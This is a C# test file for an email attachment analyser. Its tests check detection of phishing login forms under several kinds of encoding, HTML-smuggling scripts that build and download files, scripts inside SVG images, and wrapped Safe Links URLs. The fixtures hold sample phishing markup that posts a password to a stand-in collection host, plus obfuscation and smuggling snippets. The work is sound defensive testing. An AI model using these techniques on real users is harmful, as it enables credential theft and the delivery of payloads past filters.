using System.Text;
using Serjeant.Facts;
using Xunit;
using static Serjeant.Tests.Facts.Attachments.AttachmentReading;
using static Serjeant.Tests.Facts.Attachments.SampleFiles;

namespace Serjeant.Tests.Facts.Attachments;

public class PageTests
{
    private const string Login = "<html><form action=\"https://t.example/collect\"><input name=p type=\"password\"></form></html>";
    private static readonly string Packed = Convert.ToBase64String(Encoding.UTF8.GetBytes(Login));
    private static readonly string File = Convert.ToBase64String(Enumerable.Range(0, 3000).Select(i => (byte)(i * 31)).ToArray());

    public static TheoryData<string> LoginPages => new()
    {
        Login,
        $"<html><script>document.write(unescape('{Uri.EscapeDataString(Login)}'))</script></html>",
        $"<html><script>document.write(atob('{Packed}'))</script></html>",
        $"<html><script>var x = '{Packed}'; document.body.innerHTML = decode(x);</script></html>",
        $"<html><iframe src=\"data:text/html;base64,{Packed}\"></iframe></html>",
        "<html><iframe srcdoc='" + Login.Replace("<", "&lt;", StringComparison.Ordinal) + "'></iframe></html>",
        "<html><body onload=\"document.write(atob('" + Packed + "'))\"></html>",
        "<html><script>s = '" + string.Concat(Login.Select(c => $"\\x{(int)c:x2}")) + "'</script></html>",
        "<html><script>document.write(String.fromCharCode(" + string.Join(", ", Login.Select(c => (int)c)) + "))</script></html>",
        $"<html><a href=\"javascript:document.write(atob('{Packed}'))\">x</a></html>",
    };

    [Theory]
    [MemberData(nameof(LoginPages))]
    public void A_login_form_is_found_however_it_is_packed(string page)
    {
        var (attachment, links) = Read(Text(page), "a.html", "text/html");

        Assert.True(attachment.Traits.HasFlag(AttachmentTraits.Html | AttachmentTraits.LoginForm), attachment.Traits.ToString());
        Assert.Contains(links, link => link is { Place: LinkPlace.Form or LinkPlace.Script, Fires: LinkFire.Clicking } && link.Address.Host.Name == "t.example");
    }

    public static TheoryData<string> Smugglers => new()
    {
        $"<script>var b = new Blob([atob('{File}')]); var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'x.zip'; a.click();</script>",
        "<script>navigator.msSaveOrOpenBlob(b, 'x.iso')</script>",
        "<a download='x.zip' href='data:application/zip;base64,UEsDBAo='>x</a>",
        "<script>document.write(unescape('%3Cb%3E'))</script>",
        $"<script>var f = '{File}'; go(atob(f));</script>",
        "<svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA[navigator.msSaveBlob(b, 'x')]]></script></svg>",
    };

    [Theory]
    [MemberData(nameof(Smugglers))]
    public void A_page_that_builds_a_file_smuggles(string page) =>
        Assert.True(Read(Text(page), page.StartsWith("<svg", StringComparison.Ordinal) ? "a.svg" : "a.html").Attachment.Traits.HasFlag(AttachmentTraits.HtmlSmuggling));

    [Fact]
    public void An_ordinary_page_has_links_and_no_more()
    {
        var (attachment, links) = Read(Text("""
            <html><head><meta http-equiv=refresh content="0; url=https://r.example/"><link href="https://s.example/x.css"></head>
            <body background="https://b.example/x.png" style="background:url(https://c.example/y.png)"><a href="https://a.example/?x=1&amp;y=2">x</a><img src="https://i.example/p.gif"><img src="cid:x"><img src="data:image/png;base64,AAAA"></body></html>
            """), "a.html");

        Assert.Equal(AttachmentTraits.Html, attachment.Traits);
        Assert.Equal([(LinkPlace.MetaRefresh, "r.example"), (LinkPlace.StyleSheet, "s.example"), (LinkPlace.Background, "b.example"), (LinkPlace.StyleUrl, "c.example"), (LinkPlace.Anchor, "a.example"), (LinkPlace.Image, "i.example")],
            links.Select(link => (link.Place, link.Address.Host.Name)));
        Assert.All(links, link => Assert.Equal(LinkFire.Clicking, link.Fires));
    }

    [Fact]
    public void A_script_in_a_picture_is_noticed()
    {
        var (attachment, links) = Read(Text("<svg xmlns='http://www.w3.org/2000/svg'><script>location = 'https://t.example/'</script><a xlink:href='https://u.example/'/></svg>"), "a.svg", "image/svg+xml");

        Assert.Equal(AttachmentTraits.Svg | AttachmentTraits.Script, attachment.Traits);
        Assert.Equal(["t.example", "u.example"], links.Select(link => link.Address.Host.Name));
    }

    [Fact]
    public void A_wrapped_link_is_unwrapped()
    {
        var link = Assert.Single(Read(Text("<html><a href='https://x.safelinks.protection.outlook.com/?url=https%3A%2F%2Ft.example%2F&amp;data=1'>x</a></html>"), "a.html").Links);

        Assert.Equal(("https://t.example/", "Microsoft Safe Links"), (link.Address.Text, link.Wrapper));
    }

    [Fact]
    public void Text_and_links_without_end_meet_their_bounds()
    {
        var limits = FactsLimits.Default with { Links = 10, TextCharacters = 1000 };

        var (attachment, links) = Read(Text("<html>" + string.Concat(Enumerable.Range(0, 1000).Select(i => $"<a href='https://t{i}.example/'>x</a>"))), "a.html", limits: limits);

        Assert.Equal(10, links.Count);
        Assert.True(attachment.Traits.HasFlag(AttachmentTraits.BoundReached));
    }
}
